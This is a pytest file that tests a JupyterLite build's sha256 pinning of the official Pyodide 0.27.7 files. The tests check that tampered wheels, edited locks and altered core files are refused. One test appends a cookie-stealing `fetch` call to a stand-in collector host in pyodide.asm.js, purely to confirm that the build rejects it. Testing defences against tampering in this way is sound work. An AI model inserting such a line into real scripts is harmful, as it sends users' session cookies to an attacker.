"""The JupyterLite build trusts only the official Pyodide 0.27.7 lock and core (``lite/pins.py``).

Unit tests of the build's verification on temporary copies: no site is built.
"""

from __future__ import annotations

import hashlib
import importlib.util
import json
import tarfile
from pathlib import Path
from types import ModuleType

import pytest

LITE = Path(__file__).resolve().parents[1] / "lite"
NPM_TARBALL = LITE.parent / ".cache" / "lite" / "npm" / "pyodide-0.27.7.tgz"
CORE = ("pyodide.js", "pyodide.mjs", "pyodide.asm.js", "pyodide.asm.wasm", "python_stdlib.zip")


@pytest.fixture
def build(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    """``lite/build.py`` imported as a module (it is a script: its directory goes on sys.path)."""
    monkeypatch.syspath_prepend(str(LITE))
    spec = importlib.util.spec_from_file_location("lite_build_under_test", LITE / "build.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _consistent_dist(directory: Path, wheel: bytes) -> Path:
    """A distribution whose lock matches its numpy wheel: the checks against the lock all pass."""
    directory.mkdir()
    name = "numpy-2.0.2-cp312-cp312-pyodide_2024_0_wasm32.whl"
    (directory / name).write_bytes(wheel)
    packages = {
        root: {"file_name": name if root == "numpy" else f"{root}.whl", "depends": []}
        for root in ("micropip", "ssl", "sqlite3", "jedi", "ipython", "numpy", "pillow")
    }
    for entry in packages.values():
        path = directory / entry["file_name"]
        if not path.exists():
            path.write_bytes(entry["file_name"].encode())
        entry["sha256"] = _sha(path.read_bytes())
    lock = {"info": {"version": "0.27.7"}, "packages": packages}
    (directory / "pyodide-lock.json").write_text(json.dumps(lock))
    for core in CORE:
        (directory / core).write_bytes(b"// a core file\n")
    return directory


def test_a_pyodide_dist_with_an_altered_wheel_and_a_matching_lock_is_refused(
    build: ModuleType, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dist = _consistent_dist(tmp_path / "dist", b"PK\x03\x04 numpy, altered")
    monkeypatch.setenv("PYODIDE_DIST", str(dist))
    with pytest.raises(SystemExit, match=r"pyodide-lock.json from PYODIDE_DIST=.* has sha256"):
        build.Distribution().write(tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.fixture(scope="module")
def official(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The official files, from the npm tarball the build caches (its sha256 is pinned)."""
    if not NPM_TARBALL.exists():
        pytest.skip("no cached npm tarball: run `make lite` once")
    out = tmp_path_factory.mktemp("pyodide")
    with tarfile.open(NPM_TARBALL) as tar:
        for member in tar.getmembers():
            name = member.name.removeprefix("package/")
            if name in (*CORE, "pyodide-lock.json"):
                handle = tar.extractfile(member)
                assert handle is not None
                (out / name).write_bytes(handle.read())
    return out


def test_the_official_files_pass_the_pins(build: ModuleType, official: Path) -> None:
    from pins import PINNED_SHA256, verified

    assert (
        set(PINNED_SHA256)
        == {*CORE, "pyodide-lock.json"}
        == set(build.CORE_FILES) | {"pyodide-lock.json"}
    )
    for name in PINNED_SHA256:
        data = (official / name).read_bytes()
        assert verified(name, data) is data


def test_an_official_lock_edited_for_an_altered_numpy_is_refused(
    build: ModuleType, official: Path
) -> None:
    from pins import PinError, verified

    lock = json.loads((official / "pyodide-lock.json").read_bytes())
    lock["packages"]["numpy"]["sha256"] = _sha(b"an altered numpy wheel")
    with pytest.raises(PinError, match=r"pyodide-lock.json .* not the official"):
        verified("pyodide-lock.json", json.dumps(lock).encode())


def test_a_core_with_an_added_fetch_is_refused_through_pyodide_dist(
    build: ModuleType, official: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dist = tmp_path / "dist"
    dist.mkdir()
    for name in (*CORE, "pyodide-lock.json"):
        (dist / name).write_bytes((official / name).read_bytes())
    with (dist / "pyodide.asm.js").open("ab") as fh:
        fh.write(b"\nfetch('https://collector.example/'+document.cookie);\n")
    monkeypatch.setenv("PYODIDE_DIST", str(dist))
    distribution = build.Distribution()  # the lock is the official one
    with pytest.raises(SystemExit, match=r"pyodide.asm.js from PYODIDE_DIST=.* has sha256"):
        distribution.write(tmp_path / "out")
